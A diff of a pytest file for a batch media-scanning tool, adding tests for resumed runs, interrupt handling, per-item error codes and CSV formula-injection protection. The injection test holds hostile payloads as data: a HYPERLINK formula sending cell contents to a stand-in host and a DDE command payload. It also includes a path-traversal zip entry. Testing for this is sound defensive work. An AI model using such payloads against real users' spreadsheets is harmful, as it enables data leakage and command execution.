@@ -6,13 +6,23 @@ from __future__ import annotations
 
 import csv
 import json
+import time
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
 import pytest
 
-from conftest import SerialEngine, image, write_export, write_tar, write_zip
+from conftest import (
+    SCANNED_LOG,
+    TICK_S,
+    RecordingScanner,
+    SerialEngine,
+    image,
+    write_export,
+    write_tar,
+    write_zip,
+)
 from rempart.batch import BatchConfig, iter_rows, run_batch
 from rempart.batch.local import LocalEngine
 from rempart.errors import RempartError
@@ -99,7 +109,8 @@ def test_resume_skips_done_items_and_repairs_a_torn_file(
     assert not first.complete and first.stats.scanned == 2
     assert len(_rows(out)) == 2 + 3  # two scanned, and the three that failed before scanning
     second = run_batch(config(root), engine=serial)
-    assert second.complete and second.skipped == 5 and second.stats.scanned == 5
+    # The media the export names but lacks is looked for again (it may have been copied).
+    assert second.complete and second.skipped == 4 and second.stats.scanned == 5
     rows = _rows(out)
     assert len(rows) == 10
     # Lose two lines and tear the last one, as a crash in the middle of a write would.
@@ -118,10 +129,15 @@ def test_resume_skips_done_items_and_repairs_a_torn_file(
 
 
 class _Stop:
-    """A progress display whose ``advance`` raises KeyboardInterrupt once, like Ctrl-C."""
+    """A progress display whose ``advance`` raises KeyboardInterrupt once, like Ctrl-C.
 
-    def __init__(self, after: int) -> None:
+    With ``slow``, the advance before that one takes a while, so that several workers'
+    results are waiting when the interrupt comes (the case where some used to be dropped).
+    """
+
+    def __init__(self, after: int, slow: float = 0.0) -> None:
         self.after = after
+        self.slow = slow
         self.seen = 0
 
     def start(self, total: int, done: int) -> None:
@@ -129,28 +145,93 @@ class _Stop:
 
     def advance(self) -> None:
         self.seen += 1
+        if self.seen == self.after - 1:
+            time.sleep(self.slow)
         if self.seen == self.after:
             raise KeyboardInterrupt
 
 
-def test_interrupted_pool_loses_no_finished_result(tmp_path: Path, config: Config) -> None:
-    root = tmp_path / "many"
+def _scanned(log: Path) -> list[str]:
+    return log.read_text(encoding="utf-8").splitlines() if log.exists() else []
+
+
+def _many(root: Path, n: int) -> None:
     root.mkdir()
-    for n in range(12):
-        (root / f"{n:02d}.jpg").write_bytes(image(100 + n))
+    for i in range(n):
+        (root / f"{i:02d}.jpg").write_bytes(image(100 + i))
+
+
+def test_interrupted_pool_loses_no_finished_result(
+    tmp_path: Path, config: Config, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Interrupted while writing a row (the progress display raises KeyboardInterrupt, as a
+    Ctrl-C arriving there would): every result a worker finished is written, exactly."""
+    root = tmp_path / "many"
+    _many(root, 16)
+    log = tmp_path / "scanned.log"
+    monkeypatch.setenv(SCANNED_LOG, str(log))
     out = tmp_path / "out"
+    engine = LocalEngine(2, scanner=RecordingScanner)
     with pytest.raises(KeyboardInterrupt):
-        run_batch(config(root), engine=LocalEngine(2), progress=_Stop(after=3))
+        run_batch(config(root), engine=engine, progress=_Stop(after=3, slow=3 * TICK_S))
     partial = _rows(out)
-    assert 3 <= len(partial) < 12
+    # Rows written are exactly the items the workers finished: none dropped, none invented.
+    assert sorted(r["key"] for r in partial.values()) == sorted(_scanned(log))
+    assert 3 <= len(partial) < 16
     assert (out / "report.html").is_file()
     assert json.loads((out / "run.json").read_text())["runs"][0]["complete"] is False
     summary = run_batch(config(root), engine=LocalEngine(2))
     rows = _rows(out)
-    assert summary.complete and len(rows) == 12
-    assert summary.stats.scanned == 12 - len(partial)
+    assert summary.complete and len(rows) == 16
+    assert summary.stats.scanned == 16 - len(partial)
     for path, row in partial.items():
         assert rows[path]["hashes"] == row["hashes"]  # kept as it was, not redone
+
+
+_DRIVER = """
+import sys
+sys.path.insert(0, sys.argv[1])
+from pathlib import Path
+from conftest import RecordingScanner
+from rempart.batch import BatchConfig, run_batch
+from rempart.batch.local import LocalEngine
+from rempart.settings import load_settings
+
+settings = load_settings(database_url=sys.argv[4])
+config = BatchConfig([Path(sys.argv[2])], Path(sys.argv[3]), settings)
+run_batch(config, engine=LocalEngine(2, scanner=RecordingScanner))
+"""
+
+
+def test_ctrl_c_writes_every_finished_result_before_exit(
+    tmp_path: Path, settings: Any, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A real SIGINT to a real `run_batch` process, whenever it lands."""
+    import signal
+    import subprocess
+    import sys
+
+    root = tmp_path / "many"
+    _many(root, 24)
+    log = tmp_path / "scanned.log"
+    monkeypatch.setenv(SCANNED_LOG, str(log))
+    out = tmp_path / "out"
+    here = str(Path(__file__).parent)
+    args = [sys.executable, "-c", _DRIVER, here, str(root), str(out), settings.database_url]
+    proc = subprocess.Popen(args, stderr=subprocess.PIPE)
+    try:
+        deadline = time.monotonic() + 120
+        while len(_scanned(log)) < 4 and time.monotonic() < deadline and proc.poll() is None:
+            time.sleep(0.05)
+        proc.send_signal(signal.SIGINT)
+        _, stderr = proc.communicate(timeout=120)
+    finally:
+        proc.kill()
+    assert proc.returncode != 0 and b"KeyboardInterrupt" in stderr, stderr.decode()[-2000:]
+    rows = _rows(out)
+    assert sorted(r["key"] for r in rows.values()) == sorted(_scanned(log))
+    assert 4 <= len(rows) < 24
+    assert json.loads((out / "run.json").read_text())["runs"][0]["complete"] is False
 
 
 def test_local_pool_gives_the_same_rows_as_one_process(
@@ -165,8 +246,9 @@ def test_local_pool_gives_the_same_rows_as_one_process(
     one, pool = _rows(tmp_path / "serial"), _rows(tmp_path / "pool")
     assert one.keys() == pool.keys()
     for path in one:
-        one[path].pop("timings_ms", None)
-        pool[path].pop("timings_ms", None)
+        for row in (one[path], pool[path]):
+            row.pop("timings_ms", None)
+            row.pop("scan_id", None)  # each results folder records its own scans
         assert one[path] == pool[path], path
 
 
@@ -201,7 +283,12 @@ def test_every_bad_input_is_a_row_and_the_scan_goes_on(
     )
     write_zip(root / "trav.zip", {"../../x.jpg": image(4), "fine.jpg": image(5)})
     (root / "tg").mkdir()
-    (root / "tg" / "result.json").write_text("{not json", encoding="utf-8")
+    (root / "tg" / "result.json").write_text(  # an export cut short
+        '{"name": "x", "type": "public_channel", "id": 1, "messages": [{"id": 1,',
+        encoding="utf-8",
+    )
+    (root / "notes").mkdir()
+    (root / "notes" / "result.json").write_text("{not json", encoding="utf-8")  # no export
     write_export(root / "tg2", seeds=(6,))
     try:
         summary = run_batch(config(root, tmp_path / "missing.jpg"), engine=serial)
@@ -220,9 +307,99 @@ def test_every_bad_input_is_a_row_and_the_scan_goes_on(
     assert codes["cut.zip"] == "broken_archive"
     assert codes["../../x.jpg"] == "unsafe_path"
     assert codes["tg"] == "malformed_export"
+    assert codes["result.json"] == "unsupported_format"  # an ordinary file
     assert codes["clip.mp4"] == "missing_media"
     assert codes["missing.jpg"] == "not_found"
     assert summary.complete and summary.tally.errors == sum(1 for c in codes.values() if c)
     for row in rows.values():
         if "error" in row:
             assert row["error"]["message"] and row["key"] and "source" in row
+
+
+def test_csv_cells_that_would_be_formulas_are_neutralised(
+    tmp_path: Path, config: Config, serial: SerialEngine
+) -> None:
+    """Member names, chat names and senders are untrusted: a spreadsheet must not run them."""
+    root = tmp_path / "in"
+    root.mkdir()
+    payloads = ['=HYPERLINK("http://x.test/?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
+    write_zip(root / "a.zip", {f"{p}.jpg": image(n) for n, p in enumerate(payloads)})
+    chat = {
+        "name": "=1+1",
+        "type": "public_channel",
+        "id": -1001234,
+        "messages": [
+            {"id": 1, "type": "message", "from": "\tTAB", "from_id": "user1",
+             "date": "\r2020", "photo": "photos/p.jpg"},
+        ],
+    }  # fmt: skip
+    (root / "export" / "photos").mkdir(parents=True)
+    (root / "export" / "photos" / "p.jpg").write_bytes(image(9))
+    (root / "export" / "result.json").write_text(json.dumps(chat), encoding="utf-8")
+    run_batch(config(root), engine=serial)
+    with (tmp_path / "out" / "results.csv").open(encoding="utf-8", newline="") as f:
+        table = list(csv.DictReader(f))
+    members = sorted(r["member"] for r in table if r["source_kind"] == "zip")
+    assert members == sorted(f"'{p}.jpg" for p in payloads)
+    (tg,) = [r for r in table if r["source_kind"] == "telegram"]
+    assert tg["chat"] == "'=1+1" and tg["sender"] == "'\tTAB" and tg["date"] == "'\r2020"
+    assert tg["chat_id"] == "-1001234"  # a number is a number, not a formula
+    for r in table:
+        for value in r.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value == "-1001234"
+    # The JSONL keeps the names as they are.
+    rows = list(iter_rows(tmp_path / "out" / "results.jsonl"))
+    assert sorted(r["source"]["member"] for r in rows if "member" in r["source"]) == sorted(
+        f"{p}.jpg" for p in payloads
+    )
+
+
+def test_other_inputs_into_the_same_folder_are_refused_unless_forced(
+    tmp_path: Path, config: Config, serial: SerialEngine
+) -> None:
+    for name in ("one", "two"):
+        (tmp_path / name).mkdir()
+        (tmp_path / name / "a.jpg").write_bytes(image(len(name) + 40))
+    run_batch(config(tmp_path / "one"), engine=serial)
+    run = json.loads((tmp_path / "out" / "run.json").read_text())
+    assert run["inputs"] == [str(tmp_path / "one")]
+    with pytest.raises(RempartError) as exc:
+        run_batch(config(tmp_path / "two"), engine=serial)
+    assert exc.value.code == "batch_inputs_changed" and str(tmp_path / "two") in str(exc.value)
+    assert "--force" in (exc.value.hint or "")
+    assert len(_rows(tmp_path / "out")) == 1  # nothing written by the refused run
+    # The same inputs again: fine (a resumed scan); with --force, the new ones are added.
+    run_batch(config(tmp_path / "one"), engine=serial)
+    summary = run_batch(config(tmp_path / "two", force=True), engine=serial)
+    assert summary.stats.scanned == 1 and len(_rows(tmp_path / "out")) == 2
+    run = json.loads((tmp_path / "out" / "run.json").read_text())
+    assert run["inputs"] == [str(tmp_path / "one"), str(tmp_path / "two")]
+    run_batch(config(tmp_path / "one", tmp_path / "two"), engine=serial)  # now both are its own
+
+
+def test_items_that_failed_for_a_passing_reason_are_retried(
+    tmp_path: Path, config: Config, serial: SerialEngine
+) -> None:
+    root = tmp_path / "in"
+    root.mkdir()
+    (root / "ok.jpg").write_bytes(image(1))
+    (root / "bad.jpg").write_text("not an image")
+    looped = root / "looped.jpg"
+    looped.symlink_to(looped.name)  # a link to itself: unreadable, whoever reads it
+    export = write_export(root / "export", seeds=(3,))
+    first = run_batch(config(root), engine=serial)
+    rows = {Path(r["path"]).name: r for r in _rows(tmp_path / "out").values()}
+    assert rows["looped.jpg"]["error"]["code"] == "unreadable"
+    assert rows["clip.mp4"]["error"]["code"] == "missing_media"
+    assert first.tally.errors == 4  # looped, bad, the missing clip, the file not exported
+    # Fixed since: the link replaced by the file, the export's copy finished.
+    looped.unlink()
+    looped.write_bytes(image(2))
+    (export.root / "video_files" / "clip.mp4").write_bytes(image(4))
+    second = run_batch(config(root), engine=serial)
+    rows = {Path(r["path"]).name: r for r in _rows(tmp_path / "out").values()}
+    assert "error" not in rows["looped.jpg"] and rows["looped.jpg"]["hashes"]["sha256"]
+    assert "error" not in rows["clip.mp4"]  # what the export named is there now
+    assert rows["bad.jpg"]["error"]["code"] == "unsupported_format"  # not worth a retry
+    assert second.stats.scanned == 2 and second.tally.errors == 2 and second.complete
+    assert len(rows) == 6
